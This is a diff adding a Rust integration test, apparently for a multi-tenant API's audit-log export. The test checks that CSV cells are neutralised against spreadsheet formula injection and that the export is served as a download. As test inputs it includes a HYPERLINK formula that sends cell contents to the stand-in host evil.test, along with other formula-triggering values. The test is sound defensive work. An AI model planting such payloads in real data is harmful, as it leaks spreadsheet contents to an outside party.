@@ -147,3 +147,72 @@ async fn the_audit_log_shows_who_did_what_newest_first_with_filters_and_cursors(
     assert_eq!(log["items"][0]["impersonated_by"], "platform-admin");
     assert_eq!(log["items"][0]["action"], "ProfileUpdated");
 }
+
+/// Values an attacker controls (User-Agent, X-Request-Id, names in
+/// summaries) reach the CSV export neutralised: no cell starts with a
+/// character a spreadsheet evaluates. The export is a download.
+#[tokio::test]
+async fn the_csv_export_neutralises_formulas_and_is_an_attachment() {
+    let app = spawn_app().await;
+    let tenant = app.create_tenant("formulas").await;
+    let response = app
+        .request(Method::PATCH, &format!("/v1/tenants/{}", tenant.id), Some(&tenant.key))
+        .header("user-agent", "=HYPERLINK(\"http://evil.test/?leak=\"&A1, \"click\")")
+        .header("x-request-id", "+1+1")
+        .json(&json!({"name": "@SUM(1+1)", "industry": "-2+3"}))
+        .send()
+        .await
+        .unwrap();
+    crate::helpers::expect_status(response, StatusCode::OK).await;
+    let base = format!("/v1/tenants/{}/audit-log/export", tenant.id);
+    let csv = app.get(&format!("{base}?format=csv"), &tenant.key).await;
+    assert_eq!(csv.status(), StatusCode::OK);
+    let disposition = csv.headers()["content-disposition"].to_str().unwrap().to_owned();
+    assert!(
+        disposition.starts_with(&format!("attachment; filename=\"coverwatch-audit-{}-", tenant.id))
+            && disposition.ends_with(".csv\""),
+        "{disposition}"
+    );
+    let text = csv.text().await.unwrap();
+    let row = text
+        .lines()
+        .find(|l| l.contains("ProfileUpdated"))
+        .expect("the profile update");
+    assert!(
+        row.contains("\"'=HYPERLINK(\"\"http://evil.test/?leak=\"\"&A1, \"\"click\"\")\""),
+        "{row}"
+    );
+    assert!(row.contains(",'+1+1,"), "the request id: {row}");
+    for cell in cells(&text) {
+        assert!(
+            !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+            "a cell a spreadsheet would evaluate: {cell:?}"
+        );
+    }
+    let jsonl = app.get(&format!("{base}?format=jsonl"), &tenant.key).await;
+    assert!(
+        jsonl.headers()["content-disposition"]
+            .to_str()
+            .unwrap()
+            .ends_with(".jsonl\"")
+    );
+}
+
+/// The cells of a CSV text as a spreadsheet reads them (quotes removed).
+fn cells(text: &str) -> Vec<String> {
+    let mut cells = vec![];
+    let (mut cell, mut quoted, mut chars) = (String::new(), false, text.chars().peekable());
+    while let Some(c) = chars.next() {
+        match (c, quoted) {
+            ('"', true) if chars.peek() == Some(&'"') => {
+                chars.next();
+                cell.push('"');
+            }
+            ('"', _) => quoted = !quoted,
+            (',' | '\n', false) => cells.push(std::mem::take(&mut cell)),
+            (c, _) => cell.push(c),
+        }
+    }
+    cells.push(cell);
+    cells
+}
